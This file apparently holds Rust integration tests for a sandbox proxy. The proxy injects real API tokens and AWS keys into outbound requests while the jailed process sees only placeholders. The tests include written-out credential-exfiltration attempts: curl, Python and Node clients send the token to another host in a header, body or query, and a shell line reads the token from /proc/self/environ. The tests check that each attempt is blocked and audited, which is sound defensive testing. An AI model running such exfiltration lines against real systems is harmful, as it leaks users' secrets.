//! `boundary run --credential` in a real jail with real clients (curl, Python `requests`,
//! Node's `https`): the upstream receives the real value, the jailed process's environment and
//! `/proc/self/environ` hold only the placeholder, and leak attempts to another allowed host
//! (header, body, query) are refused and audited. Runs as root (namespaces); the jailed command
//! runs as uid 65534.

mod common;

use std::convert::Infallible;
use std::fmt::Write as _;
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use common::{As, TempDir, TestCa, TestServer, boundary, output, require_root, stderr, stdout};
use http_body_util::BodyExt;
use http_body_util::combinators::BoxBody;
use hyper::body::Incoming;
use hyper::{Request, Response};

const REAL: &str = "real-api-token-7f3a9c";

/// The start of a recorded request whose body never arrived whole.
const INCOMPLETE: &str = "incomplete ";

/// Records what arrived (path, query, headers, body) and answers `ok PATH`, so the jailed
/// command never sees the value.
async fn record(
    request: Request<Incoming>,
    seen: Arc<Mutex<Vec<String>>>,
) -> Response<BoxBody<Bytes, Infallible>> {
    let mut text = format!(
        "path={} query={}\n",
        request.uri().path(),
        request.uri().query().unwrap_or_default()
    );
    for (name, value) in request.headers() {
        let _ = writeln!(text, "{name}={}", String::from_utf8_lossy(value.as_bytes()));
    }
    let path = request.uri().path().to_owned();
    match request.into_body().collect().await {
        Ok(body) => {
            let _ = writeln!(text, "body={}", String::from_utf8_lossy(&body.to_bytes()));
        }
        // The connection was cut before the body had all come: the proxy stopped a request whose
        // body it refused after its head had gone out.
        Err(_) => text.insert_str(0, INCOMPLETE),
    }
    seen.lock().unwrap().push(text);
    Response::new(http_body_util::Full::new(Bytes::from(format!("ok {path}\n"))).boxed())
}

/// The Python and Node clients: each a request to the bound host with the placeholder in a
/// header, and a leak attempt to the other host (Python: body; Node: query).
fn write_clients(dir: &std::path::Path, port: u16) -> (std::path::PathBuf, std::path::PathBuf) {
    let python = dir.join("client.py");
    std::fs::write(
        &python,
        format!(
            "import os, requests\n\
             token = os.environ['API_TOKEN']\n\
             r = requests.get('https://api.test:{port}/python', headers={{'x-note': 'from ' + token}})\n\
             print('python', r.status_code, r.text.strip())\n\
             r = requests.post('https://other.test:{port}/paste', data='stolen=' + token)\n\
             print('python-leak', r.status_code)\n"
        ),
    )
    .unwrap();
    let node = dir.join("client.js");
    std::fs::write(
        &node,
        format!(
            "const https = require('https');\n\
             const token = process.env.API_TOKEN;\n\
             function get(host, path, headers) {{\n\
               return new Promise((resolve) => {{\n\
                 https.get({{host, port: {port}, path, headers}}, (res) => {{\n\
                   let body = ''; res.on('data', (c) => body += c);\n\
                   res.on('end', () => resolve([res.statusCode, body.trim()]));\n\
                 }}).on('error', (e) => resolve([0, String(e)]));\n\
               }});\n\
             }}\n\
             (async () => {{\n\
               const [s, b] = await get('api.test', '/node', {{authorization: 'Bearer ' + token}});\n\
               console.log('node', s, b);\n\
               const [l] = await get('other.test', '/q?t=' + encodeURIComponent(token), {{}});\n\
               console.log('node-leak', l);\n\
             }})();\n"
        ),
    )
    .unwrap();
    for f in [&python, &node] {
        std::fs::set_permissions(f, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    }
    (python, node)
}

#[tokio::test]
async fn boundary_run_credential_puts_the_value_in_and_the_jail_sees_only_a_placeholder() {
    require_root();
    let ca = TestCa::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let handler_seen = seen.clone();
    let https = TestServer::serving(
        Some(ca.server_config(&["api.test", "other.test"], common::Alpn::Http1)),
        move |request| record(request, handler_seen.clone()),
    )
    .await;
    let port = https.port();
    let dir = TempDir::new("credentials");
    let audit_file = dir.path().join("audit.jsonl");
    let (python, node) = write_clients(dir.path(), port);
    let script = format!(
        "echo \"env=$API_TOKEN\"; \
         cat /proc/self/environ | tr '\\000' '\\n' | grep -a '^API_TOKEN=' | sed 's/^/proc-/'; \
         curl -sS https://api.test:{port}/curl; \
         curl -sS -o /dev/null -w 'curl-leak %{{http_code}}\\n' -H \"x-api-key: $API_TOKEN\" https://other.test:{port}/x; \
         /usr/bin/python3 {python}; \
         node {node}",
        python = python.display(),
        node = node.display(),
    );
    let mut cmd = boundary(As::Nobody);
    cmd.env("API_TOKEN", REAL).arg("run").args([
        "--allow",
        "domain=api.test",
        "--allow",
        "domain=other.test",
        "--credential",
        "domain=api.test env=API_TOKEN header=Authorization format=Bearer {value}",
        "--resolve",
        "api.test=127.0.0.1",
        "--resolve",
        "other.test=127.0.0.1",
        "--upstream-ca",
        ca.pem_path.to_str().unwrap(),
        "--audit-file",
        audit_file.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        &script,
    ]);
    let out = output(cmd).await;
    let text = stdout(&out);
    assert!(out.status.success(), "{}\n{text}", stderr(&out));
    assert!(
        !text.contains(REAL),
        "the jailed command never sees the value:\n{text}"
    );
    let env_line = text.lines().find(|l| l.starts_with("env=")).unwrap();
    assert!(
        env_line.starts_with("env=boundary-ph-") && env_line.ends_with("-api-token"),
        "{text}"
    );
    let placeholder = env_line.trim_start_matches("env=");
    assert!(
        text.contains(&format!("proc-API_TOKEN={placeholder}")),
        "/proc/self/environ shows the placeholder:\n{text}"
    );
    for line in [
        "ok /curl",
        "curl-leak 403",
        "python 200 ok /python",
        "python-leak 403",
        "node 200 ok /node",
        "node-leak 403",
    ] {
        assert!(text.contains(line), "{line:?} missing:\n{text}");
    }

    let (seen, cut): (Vec<String>, Vec<String>) = seen
        .lock()
        .unwrap()
        .iter()
        .cloned()
        .partition(|r| !r.starts_with(INCOMPLETE));
    assert_eq!(seen.len(), 3, "only the bound requests went out: {seen:#?}");
    // A leak in a body is found once the body comes, after the head may have gone out: the
    // request is then cut, and no byte of its body, nor the value, reaches the server.
    for request in &cut {
        assert!(request.contains("path=/paste "), "{cut:#?}");
        assert!(
            !request.contains("boundary-ph-") && !request.contains(REAL),
            "{request}"
        );
    }
    for request in &seen {
        assert!(
            request.contains(&format!("authorization=Bearer {REAL}\n")),
            "{request}"
        );
        assert!(!request.contains("boundary-ph-"), "{request}");
    }
    assert!(
        seen.iter()
            .any(|r| r.contains(&format!("x-note=from {REAL}\n"))),
        "the placeholder in another header is replaced: {seen:#?}"
    );

    check_audit(&audit_file, placeholder);
}

/// One line per request: the three with the credential, the three leaks; no real value, no
/// placeholder unredacted.
fn check_audit(audit_file: &std::path::Path, placeholder: &str) {
    let audit = std::fs::read_to_string(audit_file).unwrap();
    assert!(!audit.contains(REAL), "no real value in the audit trail");
    assert!(!audit.contains(placeholder), "placeholders are redacted");
    let records: Vec<serde_json::Value> = audit
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let injected = records
        .iter()
        .filter(|r| r["credential"] == "api-token")
        .count();
    assert_eq!(injected, 3, "{records:#?}");
    let mut leaks: Vec<String> = records
        .iter()
        .filter(|r| r.get("leak").is_some())
        .map(|r| format!("{} {}", r["leak"]["credential"], r["leak"]["where"]))
        .collect();
    leaks.sort();
    assert_eq!(
        leaks,
        [
            "\"api-token\" \"body\"",
            "\"api-token\" \"header x-api-key\"",
            "\"api-token\" \"query\""
        ]
    );
}

#[tokio::test]
async fn a_credential_whose_variable_is_not_set_is_a_usage_error() {
    require_root();
    let mut cmd = boundary(As::Nobody);
    cmd.env_remove("API_TOKEN").arg("run").args([
        "--credential",
        "domain=api.test env=API_TOKEN header=x-api-key",
        "--",
        "true",
    ]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("API_TOKEN is not set in boundary run's environment"),
        "{}",
        stderr(&out)
    );
    let mut cmd = boundary(As::Nobody);
    cmd.arg("run").args([
        "--credential",
        "domain=api.test header=x-api-key",
        "--",
        "true",
    ]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("env=VAR is missing"),
        "{}",
        stderr(&out)
    );
}

const NONCE: &str = "abcdefghijklmnop";
const SIDECAR_VALUE: &str = "ghp_sidecar_value_0001";

/// One HTTP/1.1 request over `tls`: (status, body).
async fn https_get<S>(tls: S, path: &str, host: &str, headers: &[(&str, &str)]) -> (u16, String)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin + Send + 'static,
{
    let (mut sender, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let mut req = Request::builder().uri(path).header("host", host);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = sender
        .send_request(req.body(http_body_util::Empty::<Bytes>::new()).unwrap())
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8_lossy(&body).into_owned())
}

fn write_value(dir: &std::path::Path, value: &str) {
    let tmp = dir.join(".agent.github.tmp");
    std::fs::write(&tmp, serde_json::json!({ "value": value }).to_string()).unwrap();
    std::fs::rename(tmp, dir.join("agent.github")).unwrap();
}

/// A compiled policy allowing both hosts, with a header credential bound to `api.test`.
fn github_policy() -> serde_json::Value {
    serde_json::json!({
        "version": 1,
        "namespace": "agents",
        "policies": [{
            "name": "agent",
            "podSelector": {},
            "allow": ["domain=api.test", "domain=other.test"],
            "credentials": [{
                "name": "github",
                "secretKeyRef": {"name": "gh", "key": "token"},
                "destinations": [{"domains": ["api.test"]}],
                "inject": {"header": {"name": "Authorization", "format": "token {value}"}},
                "env": "GITHUB_TOKEN"
            }]
        }]
    })
}

#[tokio::test]
async fn the_sidecar_puts_the_policys_credential_in_from_its_credentials_dir_and_follows_rotation()
{
    require_root();
    let ca = TestCa::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let handler_seen = seen.clone();
    let https = TestServer::serving(
        Some(ca.server_config(&["api.test", "other.test"], common::Alpn::Http1)),
        move |request| record(request, handler_seen.clone()),
    )
    .await;
    let values = TempDir::new("credentials-dir");
    write_value(values.path(), SIDECAR_VALUE);
    let policy = github_policy();
    let sidecar = common::Sidecar::for_upstream(
        &policy,
        &["api.test", "other.test"],
        Some(&ca),
        &[
            "--credentials-dir",
            values.path().to_str().unwrap(),
            "--placeholder-nonce",
            NONCE,
        ],
    )
    .await;
    let port = https.port();
    let placeholder = boundary_api::credentials::placeholder(NONCE, "github");
    assert_eq!(
        sidecar.status().await["credentials"],
        serde_json::json!([{"name": "github", "value": "present"}]),
        "/status names the credentials and whether their value is there"
    );
    let get = async |name: &str, path: &str, headers: &[(&str, &str)]| {
        let stream = sidecar.connect(name, port).await;
        let tls = sidecar
            .tls(false)
            .connect(name.to_owned().try_into().unwrap(), stream)
            .await
            .unwrap();
        https_get(tls, path, &format!("{name}:{port}"), headers).await
    };
    let bearer = format!("Bearer {placeholder}");
    let (status, body) = get("api.test", "/user", &[("authorization", &bearer)]).await;
    assert_eq!(status, 200, "{body}");
    assert!(
        seen.lock().unwrap()[0].contains(&format!("authorization=token {SIDECAR_VALUE}\n")),
        "{:?}",
        seen.lock().unwrap()
    );
    let (status, body) = get("other.test", "/", &[("authorization", &bearer)]).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("credential leak attempt"), "{body}");

    write_value(values.path(), "ghp_rotated_value_0002");
    let mut rotated = false;
    for _ in 0..50 {
        let before = seen.lock().unwrap().len();
        let (status, _) = get("api.test", "/user", &[]).await;
        assert_eq!(status, 200);
        if seen.lock().unwrap()[before].contains("authorization=token ghp_rotated_value_0002\n") {
            rotated = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(rotated, "the rotated value is used without a restart");

    std::fs::remove_file(values.path().join("agent.github")).unwrap();
    let mut refused = String::new();
    for _ in 0..50 {
        let (status, body) = get("api.test", "/user", &[]).await;
        if status == 403 {
            refused = body;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        refused.contains("credential github has no value: Secret \"gh\" key \"token\""),
        "a removed value fails closed: {refused}"
    );
    assert_eq!(sidecar.status().await["credentials"][0]["value"], "missing");

    let records = sidecar.audit().await;
    let text = serde_json::to_string(&records).unwrap();
    assert!(!text.contains("ghp_"), "no real value in the audit trail");
    assert!(!text.contains(NONCE), "no placeholder unredacted");
    let leak = records.iter().find(|r| r.get("leak").is_some()).unwrap();
    assert_eq!(leak["leak"]["credential"], "github");
    assert_eq!(leak["leak"]["where"], "header authorization");
    assert_eq!(records[0]["credential"], "github", "{}", records[0]);
}

const REAL_AKID: &str = "AKIAREALEXAMPLE00001";
const REAL_SECRET: &str = "real/secret/access/key/example0001";

/// The `SigV4` verifier of the proxy's tests (botocore with the real keys), serving HTTPS with a
/// certificate of `ca` for `bedrock.test`; its port.
async fn https_verifier(ca: &TestCa, dir: &std::path::Path) -> (tokio::process::Child, u16) {
    use tokio::io::AsyncBufReadExt as _;
    let leaf = ca.leaf(&["bedrock.test"]);
    let (cert, key) = (dir.join("verifier.crt"), dir.join("verifier.key"));
    std::fs::write(&cert, &leaf.cert_pem).unwrap();
    std::fs::write(&key, &leaf.key_pem).unwrap();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/proxy/tests/sigv4_verifier.py");
    let mut child = tokio::process::Command::new("/usr/bin/python3")
        .args([script, REAL_AKID, REAL_SECRET])
        .env("VERIFIER_TLS_CERT", &cert)
        .env("VERIFIER_TLS_KEY", &key)
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("python3 with python3-botocore (tests/scripts/setup.sh)");
    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let line = lines
        .next_line()
        .await
        .unwrap()
        .expect("the verifier prints its port");
    let port = line.trim_start_matches("PORT ").parse().unwrap();
    (child, port)
}

/// Claude Code on Bedrock, in miniature: botocore in the jail signs an InvokeModel-shaped
/// request with the placeholder keys it finds in its environment; the proxy signs it again with
/// the real keys from `boundary run`'s environment, and botocore on the server, holding only the
/// real keys, accepts it.
#[tokio::test]
async fn botocore_in_the_jail_signs_with_placeholders_and_the_server_verifies_the_real_keys() {
    require_root();
    let ca = TestCa::new();
    let dir = TempDir::new("credentials-sigv4");
    let (_verifier, port) = https_verifier(&ca, dir.path()).await;
    let client = dir.path().join("bedrock.py");
    std::fs::write(
        &client,
        format!(
            "import urllib.request, urllib.error\n\
             from botocore.auth import SigV4Auth\n\
             from botocore.awsrequest import AWSRequest\n\
             from botocore.session import get_session\n\
             creds = get_session().get_credentials()\n\
             print('akid', creds.access_key)\n\
             url = 'https://bedrock.test:{port}/model/anthropic.claude-3/invoke'\n\
             req = AWSRequest(method='POST', url=url, data=b'{{\"prompt\": \"hi\"}}', headers={{'content-type': 'application/json'}})\n\
             SigV4Auth(creds, 'bedrock', 'us-east-1').add_auth(req)\n\
             p = req.prepare()\n\
             try:\n\
             \x20   r = urllib.request.urlopen(urllib.request.Request(p.url, data=p.body, headers=dict(p.headers.items()), method='POST'))\n\
             \x20   print('bedrock', r.status, r.read().decode())\n\
             except urllib.error.HTTPError as e:\n\
             \x20   print('bedrock', e.code, e.read().decode())\n"
        ),
    )
    .unwrap();
    let audit_file = dir.path().join("audit.jsonl");
    let mut cmd = boundary(As::Nobody);
    cmd.env("AWS_ACCESS_KEY_ID", REAL_AKID)
        .env("AWS_SECRET_ACCESS_KEY", REAL_SECRET)
        .env("HOME", "/nonexistent")
        .arg("run")
        .args([
            "--allow",
            "domain=bedrock.test",
            "--credential",
            "domain=bedrock.test sigv4",
            "--resolve",
            "bedrock.test=127.0.0.1",
            "--upstream-ca",
            ca.pem_path.to_str().unwrap(),
            "--audit-file",
            audit_file.to_str().unwrap(),
            "--",
            "/usr/bin/python3",
            client.to_str().unwrap(),
        ]);
    let out = output(cmd).await;
    let text = stdout(&out);
    assert!(out.status.success(), "{}\n{text}", stderr(&out));
    assert!(
        !text.contains(REAL_AKID) && !text.contains(REAL_SECRET),
        "{text}"
    );
    let akid = text.lines().find(|l| l.starts_with("akid ")).unwrap();
    assert!(akid.starts_with("akid boundary-ph-"), "{text}");
    assert!(
        text.contains("bedrock 200 {\"ok\": true"),
        "the server, holding only the real keys, accepted the request:\n{text}\n{}",
        stderr(&out)
    );
    let audit = std::fs::read_to_string(&audit_file).unwrap();
    assert!(!audit.contains(REAL_AKID) && !audit.contains(REAL_SECRET));
    assert!(
        audit
            .lines()
            .any(|l| l.contains("\"credential\":\"aws\"") && l.contains("bedrock.test")),
        "{audit}"
    );
}
